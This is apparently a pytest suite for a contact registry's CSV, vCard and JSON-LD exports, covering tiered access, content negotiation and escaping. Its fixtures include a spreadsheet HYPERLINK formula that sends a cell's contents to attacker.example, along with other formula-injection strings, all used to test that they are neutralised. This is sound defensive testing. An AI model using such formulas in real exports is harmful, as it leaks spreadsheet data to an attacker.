"""Exports practitioners use: CSV of the lists, vCard 4.0 and schema.org JSON-LD, by extension and by
Accept, at the caller's tier. Every output is read back with an independent parser: the `csv` module,
`vobject` and `pyld` (with a local stand-in for the schema.org context: the tests never fetch anything)."""

from __future__ import annotations

import csv
import io
import re

import pytest
import vobject
from conftest import client_with, issue_token
from pyld import jsonld
from test_api import problem
from test_records import AUTHORITY

from registry import create_app, exports
from registry.exports import record_uid
from registry.services.records import write_record

RESTRICTED_SCOPE = "directory:read directory:restricted"
PERSON = "local:kg-gpo-ibraimov"
DUTY = "local:kg-gpo-duty"
# The person block of PERSON (restricted tier), as written and as a tel: URI.
RESTRICTED_VALUES = ["Азамат Ибраимов", "Ибраимов", "a.ibraimov.demo@example.org", "+996 555 0101", "+996-555-0101"]
SCHEMA = "https://schema.org/"


@pytest.fixture
def restricted(app, tokens):
    return client_with(app, tokens(RESTRICTED_SCOPE))


def ok(response, media_type: str):
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == media_type
    return response


def rows(response) -> list[dict]:
    """The CSV answer read as a spreadsheet would: UTF-8 with its byte-order mark."""
    data = ok(response, "text/csv").get_data()
    assert data.startswith("\ufeff".encode()), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def cards(response) -> list:
    text = ok(response, "text/vcard").get_data(as_text=True)
    return list(vobject.readComponents(text))


def values(card, name: str) -> list[str]:
    return [line.value for line in card.contents.get(name, [])]


def local_schema_org(url, options=None):
    """pyld's document loader: the schema.org context, as far as these documents need it, from here."""
    assert url.rstrip("/") == SCHEMA.rstrip("/"), f"the test would fetch {url}"
    return {"contentType": "application/ld+json", "contextUrl": None, "documentUrl": url,
            "document": {"@context": {"@vocab": SCHEMA}}}


def expanded(response) -> dict:
    document = ok(response, "application/ld+json").get_json(force=True)
    assert document["@context"] == "https://schema.org"
    [node] = jsonld.expand(document, {"documentLoader": local_schema_org})
    return node


def prop(node: dict, name: str) -> list:
    return node.get(SCHEMA + name, [])


def plain(node: dict, name: str) -> list:
    return [v.get("@value", v.get("@id")) for v in prop(node, name)]


def all_pages(client, url: str) -> list[dict]:
    items, number = [], 1
    while True:
        response = client.get(f"{url}&page={number}&page_size=200")
        assert response.status_code == 200
        items += response.get_json()
        if len(items) >= int(response.headers["X-Total-Count"]):
            return items
        number += 1


# --- CSV -----------------------------------------------------------------------------------------------

def test_authorities_csv_holds_every_matching_row_with_the_lists_filters(client):
    every = rows(client.get("/api/v1/authorities.csv"))
    listed = all_pages(client, "/api/v1/authorities?")
    assert len(every) == len(listed) > 50, "every row, not the first page"
    assert [r["id"] for r in every] == [a["id"] for a in listed], "the list's order"

    response = client.get("/api/v1/authorities.csv?country=Кыргызстан&crime_type=THB")
    assert response.headers["Content-Disposition"] == "attachment; filename=authorities.csv"
    assert response.headers["X-Total-Count"] == "1"
    [gpo] = rows(response)
    assert gpo["id"] == "local:kg-gpo" and gpo["name"] == "Prosecutor General's Office of the Kyrgyz Republic"
    assert "ru: Генеральная прокуратура Кыргызской Республики" in gpo["names"]
    assert (gpo["country"], gpo["country_name"], gpo["locality"]) == ("KG", "Kyrgyzstan", "Bishkek")
    assert gpo["email"] == "international.gpo.kg@example.org", "a partner channel at the partner tier"
    assert gpo["phone"] == "'+996 555 0100", "a cell starting with + is neutralized"
    assert set(gpo["networks"].split(" | ")) >= {"casc", "globe"}

    by_accept = client.get("/api/v1/authorities?country=KG&crime_type=THB&page_size=1", headers={"Accept": "text/csv"})
    assert by_accept.get_data() == response.get_data(), "Accept: text/csv is the CSV of the whole list"
    assert by_accept.headers["Vary"] == "Accept, Authorization"


def test_csv_pages_through_the_list_in_one_transaction(client, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 7)
    listed = all_pages(client, "/api/v1/contact-points?status=all")
    every = rows(client.get("/api/v1/contact-points.csv?status=all"))
    assert [r["id"] for r in every] == [cp["id"] for cp in listed]
    assert len(every) > 7 * 3


def test_contact_points_csv_has_the_same_columns_at_every_tier(app, anonymous, client, restricted):
    url = "/api/v1/contact-points.csv?country=KG"
    readers = {tier: csv.reader(io.StringIO(c.get(url).get_data().decode("utf-8-sig")))
               for tier, c in (("public", anonymous), ("partner", client), ("restricted", restricted))}
    headers = {tier: next(reader) for tier, reader in readers.items()}
    assert headers["public"] == headers["partner"] == headers["restricted"]
    assert {"person_name", "person_email", "person_phone", "authority_name", "hours"} <= set(headers["public"])

    assert rows(anonymous.get(url)) == [], "contact points are served from the partner tier up"
    partner = {r["id"]: r for r in rows(client.get(url))}
    full = {r["id"]: r for r in rows(restricted.get(url))}
    assert set(partner) == set(full) >= {PERSON, DUTY}
    assert partner[PERSON]["person_name"] == partner[PERSON]["person_email"] == partner[PERSON]["person_phone"] == ""
    assert full[PERSON]["person_name"] == "Азамат Ибраимов"
    assert full[PERSON]["person_email"] == "a.ibraimov.demo@example.org"
    assert full[PERSON]["person_phone"] == "'+996 555 0101"
    assert partner[DUTY]["available_24_7"] == "yes" and partner[DUTY]["hours"] == "24/7 (Asia/Bishkek)"
    assert partner[PERSON]["hours"] == "Mon–Fri 09:00–18:00 (Asia/Bishkek)"
    assert partner[DUTY]["authority_name"] == "Prosecutor General's Office of the Kyrgyz Republic"
    assert partner[DUTY]["roles"] == "24/7 contact point (casc)"


def test_a_bad_filter_is_a_problem_before_any_byte_is_sent(client):
    unknown = problem(client.get("/api/v1/authorities.csv?country=Atlantis"), 422)
    assert unknown["errors"][0]["parameter"] == "country"
    problem(client.get("/api/v1/contact-points.csv?role=chief"), 422)
    assert problem(client.get("/api/v1/authorities.csv?page=2"), 400)["errors"][0]["parameter"] == "page"


# --- Visibility: the same tier as the JSON ------------------------------------------------------------

# Every export that holds contact points.
EXPORTS = [
    ("/api/v1/contact-points.csv?country=KG", {}),
    ("/api/v1/contact-points?country=KG", {"Accept": "text/csv"}),
    ("/api/v1/authorities/local:kg-gpo.vcf", {}),
    ("/api/v1/authorities/local:kg-gpo", {"Accept": "text/vcard"}),
    ("/api/v1/authorities/local:kg-gpo.jsonld", {}),
    ("/api/v1/authorities/local:kg-gpo", {"Accept": "application/ld+json"}),
    (f"/api/v1/contact-points/{PERSON}.vcf", {}),
    (f"/api/v1/contact-points/{PERSON}.jsonld", {}),
    (f"/api/v1/contact-points/{PERSON}", {"Accept": "text/vcard"}),
    ("/api/v1/countries/KG.vcf", {}),
    ("/api/v1/countries/Киргизия", {"Accept": "text/vcard"}),
    ("/api/v1/networks/casc.vcf", {}),
    ("/api/v1/networks/casc.jsonld", {}),
    ("/api/v1/networks/globe", {"Accept": "application/ld+json"}),
]


@pytest.mark.parametrize("url,headers", EXPORTS)
def test_no_export_serves_a_restricted_field_below_the_restricted_tier(anonymous, client, restricted, url, headers):
    full = restricted.get(url, headers=headers)
    assert full.status_code == 200
    text = full.get_data(as_text=True)
    assert any(value in text for value in RESTRICTED_VALUES), "the restricted tier sees the person block"
    for caller in (client, anonymous):
        response = caller.get(url, headers=headers)
        assert response.status_code in (200, 404), url
        if response.status_code == 404:  # a contact point, to the public tier: as its JSON
            assert caller is anonymous and "/contact-points/" in url
            assert caller.get(f"/api/v1/contact-points/{PERSON}").status_code == 404
            continue
        text = response.get_data(as_text=True)
        assert not [value for value in RESTRICTED_VALUES if value in text], url


def test_a_publisher_reads_its_networks_contact_point_in_full_as_in_the_json(app, tokens):
    secretariat = client_with(app, tokens("publish:casc"))
    assert secretariat.get(f"/api/v1/contact-points/{PERSON}").get_json()["person"]["name"] == "Азамат Ибраимов"
    [card] = cards(secretariat.get(f"/api/v1/contact-points/{PERSON}.vcf"))
    assert card.fn.value == "Азамат Ибраимов"


# --- vCard ---------------------------------------------------------------------------------------------

def test_a_contact_point_as_vcard(client, restricted):
    [card] = cards(restricted.get(f"/api/v1/contact-points/{PERSON}.vcf"))
    assert card.version.value == "4.0"
    assert (card.kind.value, card.fn.value) == ("individual", "Азамат Ибраимов")
    assert values(card, "email") == ["a.ibraimov.demo@example.org", "intl-dept.gpo.kg@example.org"]
    assert values(card, "tel") == ["tel:+996-555-0101"]
    assert "Head of the International Legal Cooperation Department" in values(card, "title")
    assert values(card, "org") == [["Prosecutor General's Office of the Kyrgyz Republic"]]
    assert values(card, "related") == [record_uid("local:kg-gpo")]
    assert values(card, "lang") == ["ky", "ru", "en"] and card.tz.value == "Asia/Bishkek"
    assert card.uid.value == record_uid(PERSON) and re.fullmatch(r"urn:uuid:[0-9a-f-]{36}", card.uid.value)
    assert re.fullmatch(r"\d{8}T\d{6}Z", card.rev.value)
    assert card.source.value.endswith(f"/api/v1/contact-points/{PERSON}.vcf")
    assert card.contents["x-registry-origin"][0].value == "local"

    partner = client.get(f"/api/v1/contact-points/{PERSON}.vcf")
    assert partner.headers["Content-Disposition"] == "attachment; filename=local_kg-gpo-ibraimov.vcf"
    [card] = cards(partner)
    assert card.fn.value == "Head of the International Legal Cooperation Department", "named after the position"
    assert values(card, "email") == ["intl-dept.gpo.kg@example.org"] and values(card, "tel") == []

    by_accept = client.get(f"/api/v1/contact-points/{PERSON}", headers={"Accept": "text/vcard"})
    assert by_accept.get_data() == partner.get_data()


def test_an_authority_as_vcard_with_its_contact_points(client):
    org, *people = cards(client.get("/api/v1/authorities/local:kg-gpo.vcf"))
    current = client.get("/api/v1/contact-points?authority=local:kg-gpo").get_json()
    assert [c.uid.value for c in people] == [record_uid(cp["id"]) for cp in current]
    assert (org.kind.value, org.fn.value) == ("org", "Prosecutor General's Office of the Kyrgyz Republic")
    assert "Генеральная прокуратура Кыргызской Республики" in values(org, "fn"), "every name, as alternatives"
    assert values(org, "org") == [["Prosecutor General's Office of the Kyrgyz Republic"]]
    # Its one e-mail channel is the mailbox a note in force says is no longer read.
    assert values(org, "email") == [], "a retired channel is not offered"
    assert values(org, "tel") == ["tel:+996-555-0100"]
    assert values(org, "url") == ["https://www.prokuratura.gov.kg"]
    assert (org.adr.value.street, org.adr.value.city, org.adr.value.code, org.adr.value.country) == (
        "139 Kievskaya Street", "Bishkek", "720040", "Kyrgyzstan")
    assert values(org, "lang") == ["ky", "ru", "en"]
    assert "Diplomatic channel: Through the Ministry of Foreign Affairs" in org.note.value
    assert sorted(values(org, "related")) == sorted(c.uid.value for c in people)
    assert {r.params["TYPE"][0] for r in org.contents["related"]} == {"contact"}
    assert "member" not in org.contents, "MEMBER belongs to KIND:group cards only (RFC 6350 §6.6.5)"
    duty = next(c for c in people if c.uid.value == record_uid(DUTY))
    assert duty.kind.value == "org" and values(duty, "role") == ["24/7 contact point (casc)"]
    assert "Hours: 24/7 (Asia/Bishkek)" in duty.note.value


def test_a_country_as_one_vcf(anonymous, client):
    listed = client.get("/api/v1/authorities?country=KG").get_json()
    current = client.get("/api/v1/contact-points?country=KG").get_json()
    every = cards(client.get("/api/v1/countries/KG.vcf"))
    assert len(every) == len(listed) + len(current)
    assert [c.uid.value for c in every] == [uid for a in listed for uid in [
        record_uid(a["id"]), *(record_uid(cp["id"]) for cp in current if cp["authority_id"] == a["id"])]], \
        "each authority followed by its contact points"
    assert {c.contents["x-registry-id"][0].value for c in every} == {r["id"] for r in listed + current}
    for card in every:
        assert card.version.value == "4.0" and card.uid.value and card.rev.value and card.source.value

    public = cards(anonymous.get("/api/v1/countries/kgz.vcf"))
    assert [c.uid.value for c in public] == [record_uid(a["id"]) for a in listed], "no contact point below partner"
    by_accept = client.get("/api/v1/countries/Кыргызстан", headers={"Accept": "text/vcard"})
    assert by_accept.headers["Content-Disposition"] == "attachment; filename=country-KG.vcf"
    assert len(cards(by_accept)) == len(every)


def test_a_network_as_one_vcf_ends_with_its_group_card(client):
    *members, group = cards(client.get("/api/v1/networks/casc.vcf"))
    listed = all_pages(client, "/api/v1/authorities?network=casc")
    authority_uids = {record_uid(a["id"]) for a in listed}
    orgs = [c for c in members if c.uid.value in authority_uids]
    assert len(orgs) == len(listed) and all(c.kind.value == "org" for c in orgs)
    assert group.kind.value == "group"
    assert "Judicial Cooperation Network for Central Asia and Southern Caucasus" in group.fn.value
    assert sorted(values(group, "member")) == sorted(authority_uids)
    people = [c for c in members if c not in orgs]
    in_casc = {cp["id"] for cp in all_pages(client, "/api/v1/contact-points?network=casc")}
    assert {c.contents["x-registry-id"][0].value for c in people} == in_casc, "their contact points in the network"


def test_vcard_lines_are_folded_at_75_octets_with_crlf_and_escaped(client):
    data = ok(client.get("/api/v1/networks/globe.vcf"), "text/vcard").get_data()
    assert b"\n" not in data.replace(b"\r\n", b""), "CRLF line endings only"
    lines = data.split(b"\r\n")
    assert lines[-1] == b""
    assert max(len(line) for line in lines) <= 75
    assert any(line.startswith(b" ") for line in lines), "long lines are folded"
    for line in lines:
        line.decode("utf-8")  # no cut inside a UTF-8 sequence
    assert b"\\n" in data, "newlines in NOTE escaped"


# --- JSON-LD -------------------------------------------------------------------------------------------

def test_an_authority_as_json_ld(client):
    node = expanded(client.get("/api/v1/authorities/local:kg-gpo.jsonld"))
    assert node["@type"] == [SCHEMA + "GovernmentOrganization"]
    assert node["@id"].endswith("/api/v1/authorities/local:kg-gpo")
    names = {v["@language"]: v["@value"] for v in prop(node, "name")}
    assert names["en"] == "Prosecutor General's Office of the Kyrgyz Republic" and {"ru", "ky"} <= set(names)
    [address] = prop(node, "address")
    assert address["@type"] == [SCHEMA + "PostalAddress"]
    assert (plain(address, "addressLocality"), plain(address, "addressCountry")) == (["Bishkek"], ["KG"])
    [country] = prop(node, "areaServed")
    assert country["@type"] == [SCHEMA + "Country"] and plain(country, "identifier") == ["KG"]
    assert plain(node, "email") == [], "the mailbox a note in force retires is not offered"
    assert plain(node, "knowsLanguage") == ["ky", "ru", "en"]
    assert {m["@id"].rsplit("/", 1)[1] for m in prop(node, "memberOf")} >= {"casc", "globe"}
    points = {p.get("@id", "").rsplit("/", 1)[-1]: p for p in prop(node, "contactPoint")}
    assert {PERSON, DUTY} <= set(points)
    duty = points[DUTY]
    assert duty["@type"] == [SCHEMA + "ContactPoint"]
    assert plain(duty, "contactType") == ["24/7 contact point (casc)"]
    assert plain(duty, "availableLanguage") == ["ru", "en"]
    [always] = prop(duty, "hoursAvailable")
    assert always["@type"] == [SCHEMA + "OpeningHoursSpecification"]
    assert len(plain(always, "dayOfWeek")) == 7
    assert (plain(always, "opens"), plain(always, "closes")) == (["00:00"], ["23:59"])
    assert plain(duty, "telephone") == ["+996 555 0102"]
    assert [v["@value"] for v in prop(points[PERSON], "name") if v["@language"] == "en"] == [
        "Head of the International Legal Cooperation Department"]
    assert client.get("/api/v1/authorities/local:kg-gpo", headers={"Accept": "application/ld+json"}).get_data() == \
        client.get("/api/v1/authorities/local:kg-gpo.jsonld").get_data()


def test_a_contact_point_as_json_ld_at_the_restricted_tier(restricted):
    node = expanded(restricted.get(f"/api/v1/contact-points/{PERSON}.jsonld"))
    assert node["@type"] == [SCHEMA + "ContactPoint"]
    assert plain(node, "name") == ["Азамат Ибраимов"]
    assert plain(node, "email") == ["a.ibraimov.demo@example.org", "intl-dept.gpo.kg@example.org"]
    assert plain(node, "telephone") == ["+996 555 0101"]
    [weekly] = prop(node, "hoursAvailable")
    assert plain(weekly, "dayOfWeek") == [SCHEMA + d for d in ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday")]
    assert plain(prop(node, "areaServed")[0], "identifier") == ["KG"]


def test_a_network_as_json_ld_with_its_members(client):
    node = expanded(client.get("/api/v1/networks/casc.jsonld"))
    assert node["@type"] == [SCHEMA + "Organization"] and plain(node, "identifier") == ["casc"]
    members = prop(node, "member")
    listed = all_pages(client, "/api/v1/authorities?network=casc")
    assert sorted(m["@id"].rsplit("/", 1)[1] for m in members) == sorted(a["id"] for a in listed)
    assert all(m["@type"] == [SCHEMA + "GovernmentOrganization"] for m in members)


# --- Negotiation, errors, documentation -------------------------------------------------------------------

@pytest.mark.parametrize("accept,media_type", [
    (None, "application/json"),
    ("*/*", "application/json"),
    ("text/html,application/xhtml+xml,*/*;q=0.8", "application/json"),
    ("application/json;q=0.5, text/vcard", "text/vcard"),
    ("text/vcard;version=4.0", "text/vcard"),
    ("application/ld+json", "application/ld+json"),
    ("application/*", "application/json"),
])
def test_the_item_route_answers_what_accept_prefers(client, accept, media_type):
    response = client.get(f"/api/v1/contact-points/{DUTY}", headers={"Accept": accept} if accept else {})
    assert ok(response, media_type).headers["Vary"] == "Accept, Authorization"


def test_an_accept_that_excludes_every_representation_is_a_406(client):
    body = problem(client.get("/api/v1/authorities/local:kg-gpo", headers={"Accept": "text/html"}), 406)
    assert body["supported"] == ["application/json", "text/vcard", "application/ld+json"]
    body = problem(client.get("/api/v1/authorities", headers={"Accept": "text/vcard"}), 406)
    assert body["supported"] == ["application/json", "text/csv"]
    problem(client.get("/api/v1/countries/KG", headers={"Accept": "application/json;q=0, text/plain"}), 406)


def test_a_cached_answer_is_never_served_for_another_representation(client):
    url = "/api/v1/networks/seajust"
    for media_type in ("application/json", "text/vcard", "application/json", "application/ld+json"):
        ok(client.get(url, headers={"Accept": media_type}), media_type)


@pytest.mark.parametrize("url", ["/api/v1/authorities/local:nope.vcf", "/api/v1/authorities/local:nope.jsonld",
                                 "/api/v1/contact-points/local:nope.vcf", "/api/v1/networks/nope.vcf",
                                 "/api/v1/networks/nope.jsonld", "/api/v1/countries/Atlantis.vcf"])
def test_unknown_records_are_404_problems(client, url):
    problem(client.get(url), 404)


def test_the_openapi_document_lists_the_representations(app):
    paths = app.extensions["registry_api"].spec.to_dict()["paths"]
    content = lambda path: set(paths[path]["get"]["responses"]["200"]["content"])  # noqa: E731
    assert content("/api/v1/authorities") == content("/api/v1/contact-points") == {"application/json", "text/csv"}
    assert content("/api/v1/authorities/{authority_id}") == {"application/json", "text/vcard", "application/ld+json"}
    assert content("/api/v1/networks/{code}") == {"application/json", "text/vcard", "application/ld+json"}
    assert content("/api/v1/countries/{code}") == {"application/json", "text/vcard"}
    assert content("/api/v1/authorities.csv") == {"text/csv"}
    assert content("/api/v1/contact-points/{contact_point_id}.vcf") == {"text/vcard"}
    assert content("/api/v1/networks/{code}.jsonld") == {"application/ld+json"}
    assert "406" in paths["/api/v1/authorities/{authority_id}"]["get"]["responses"]


# --- Written records: formulas, escaping, deletions ----------------------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Click; here")'


def write(ctx, record_type: str, record_id: str, body: dict | None) -> None:
    with ctx.db.write() as session:
        write_record(session, ctx.taxonomy, signing_keys=ctx.record_keys.signing_keys(), origin="local",
                     record_type=record_type, record_id=record_id, owner_network="casc", body=body, actor="test")


@pytest.fixture
def written(fresh_ctx):
    """A node holding an authority whose name is a formula and a contact point of it (then deleted)."""
    write(fresh_ctx, "authority", "local:formula", AUTHORITY | {
        "names": {"en": FORMULA, "ru": "Прокуратура, вторая; строка\\"},
        "acronym": "@SUM(A1)",
        "address": {"street": "-2+3 Main Street; Block B", "locality": " \uff1dBishkek"},
        "channels": [{"kind": "phone", "value": "+996 555 0199", "visibility": "public"},
                     {"kind": "email", "value": "desk@example.org", "note": "=call first", "visibility": "public"}],
    })
    write(fresh_ctx, "contact_point", "local:formula-desk", {
        "authority_id": "local:formula", "kind": "function", "position": {"en": "+1 desk, night; shift"},
        "roles": [{"network": "casc", "role": "24_7"}], "languages": ["ru"],
        "hours": {"time_zone": "Asia/Bishkek", "always": True}, "valid_from": "2024-01-01"})
    app = create_app(fresh_ctx.settings)
    return app, client_with(app, issue_token(app, "directory:read"))


def test_csv_neutralizes_formulas_from_the_write_path(written):
    _, client = written
    [row] = rows(client.get("/api/v1/authorities.csv?country=KG"))
    assert row["name"] == "'" + FORMULA
    assert row["acronym"] == "'@SUM(A1)"
    assert row["street"] == "'-2+3 Main Street; Block B"
    assert row["locality"] == "' \uff1dBishkek"
    assert row["phone"] == "'+996 555 0199"
    assert row["channel_notes"] == "desk@example.org: =call first", "only a cell's first character matters"
    assert row["names"].startswith("en: =HYPERLINK"), "not at the start of the cell: left as written"
    [cp] = rows(client.get("/api/v1/contact-points.csv?authority=local:formula"))
    assert cp["position"] == "'+1 desk, night; shift" and cp["authority_name"] == "'" + FORMULA


def test_vcard_text_survives_escaping(written):
    _, client = written
    org, desk = cards(client.get("/api/v1/authorities/local:formula.vcf"))
    assert org.fn.value == FORMULA
    assert "Прокуратура, вторая; строка\\" in values(org, "fn")
    assert org.adr.value.street == "-2+3 Main Street; Block B"
    assert desk.fn.value == "+1 desk, night; shift"
    assert values(desk, "org") == [[FORMULA, "+1 desk, night; shift"]]


def test_a_deleted_record_is_gone_in_every_representation(written, fresh_ctx):
    app, client = written
    write(fresh_ctx, "contact_point", "local:formula-desk", None)
    for url, headers in (("/api/v1/contact-points/local:formula-desk", {}),
                         ("/api/v1/contact-points/local:formula-desk.vcf", {}),
                         ("/api/v1/contact-points/local:formula-desk.jsonld", {}),
                         ("/api/v1/contact-points/local:formula-desk", {"Accept": "text/vcard"})):
        assert problem(client.get(url, headers=headers), 410)["deleted_by"] == "test"
    assert problem(app.test_client().get("/api/v1/contact-points/local:formula-desk.vcf"), 404)
    assert len(cards(client.get("/api/v1/authorities/local:formula.vcf"))) == 1, "no card for a deleted one"


@pytest.mark.parametrize("text", ["=1+1", "+996 555 0100", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1+1", " =1+1",
                                  "\u3000=1", "\u00a0@x", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
                                  "\ufe661+1", "\r\n@SUM(A1:A9)", "\ttext"])
def test_csv_cells_that_a_spreadsheet_could_read_as_formulas_are_neutralized(text):
    from registry.exports.tabular import cell

    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Prosecutor's Office", "a=b", "1+1", "e-mail", "name@example.org", "", "«=»"])
def test_csv_cells_that_are_plain_text_are_left_alone(text):
    from registry.exports.tabular import cell

    assert cell(text) == text
